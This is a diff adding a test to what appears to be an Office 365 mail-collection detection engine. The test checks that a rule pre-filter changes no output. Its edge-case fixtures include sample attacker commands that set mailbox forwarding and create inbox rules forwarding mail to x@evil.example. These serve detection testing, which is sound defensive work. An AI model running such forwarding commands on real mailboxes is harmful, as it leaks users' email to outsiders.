@@ -142,3 +142,56 @@ def test_allowlist_index_suppresses_as_the_walk_does(tmp_path, mix):
     assert found == _suppressions(walked, records)
     suppressed = [rule for rule, by, status in found if status == "suppressed"]
     assert suppressed and len(suppressed) < len(found)
+
+
+class _NoProbe:
+    """The engine with the record path's pre-build probe answering "build it and see" always."""
+
+    def __init__(self, engine):
+        self._engine = engine
+        self.findings = engine.findings
+
+    @staticmethod
+    def no_rule_wants(sourcetype, operation):
+        return False
+
+
+def _chunk_output(engine, records, keep_all):
+    import io
+
+    from t1114_protocol.chunk_csv import ChunkWriter, annotate_chunk
+    from tools.chunked_client import encode_records
+    writer = ChunkWriter()
+    body = encode_records(records)
+    annotate_chunk(io.StringIO(body.decode("utf-8") if isinstance(body, bytes) else body, newline="\n"),
+                   engine, writer, keep_all)
+    return bytes(writer.body())
+
+
+@pytest.mark.parametrize("source", MIXES + ("light", "rule_tests", "edge"))
+def test_probe_skips_only_rows_without_findings_and_changes_no_output(engine, source):
+    """Engine.no_rule_wants (rows decided from their sourcetype and Operation cells, no record
+    built): every row it skips has no finding with or without allowlists, and a chunk's output is
+    byte-identical with the probe and without it, in mode=all and mode=findings."""
+    edge = [
+        {"sourcetype": "o365:management:activity", "Operation": "", "_raw": '{"Operation":"New-InboxRule"}'},
+        {"sourcetype": "O365:Management:Activity", "Operation": "Set-Mailbox", "Parameters{}.Name": "ForwardingSmtpAddress",
+         "Parameters{}.Value": "x@evil.example", "_raw": ""},
+        {"sourcetype": ["o365:management:activity", "x"], "Operation": "UserLoggedIn"},
+        {"sourcetype": "o365:management:activity", "Operation": ["UserLoggedIn", "New-InboxRule"]},
+        {"sourcetype": "ms365:defender", "Operation": "FileAccessed"},
+        {"sourcetype": "WinEventLog", "Operation": "UserLoggedIn", "EventCode": "4688",
+         "CommandLine": "powershell New-InboxRule -ForwardTo x@evil.example"},
+    ]
+    records = {"light": lambda: make_records(5, 1500, 0.05), "rule_tests": rule_test_records,
+               "edge": lambda: edge}.get(source, lambda: mix_records(source))()
+    skipped = 0
+    for record in records:
+        sourcetype, operation = record.get("sourcetype", ""), record.get("Operation", "")
+        if isinstance(sourcetype, str) and isinstance(operation, str) and engine.no_rule_wants(sourcetype, operation):
+            skipped += 1
+            assert engine.findings(record, True) == [] and engine.findings(record, False) == [], record
+    if source in ("tenant", "light", "edge"):
+        assert skipped
+    for keep_all in (True, False):
+        assert _chunk_output(engine, records, keep_all) == _chunk_output(_NoProbe(engine), records, keep_all)
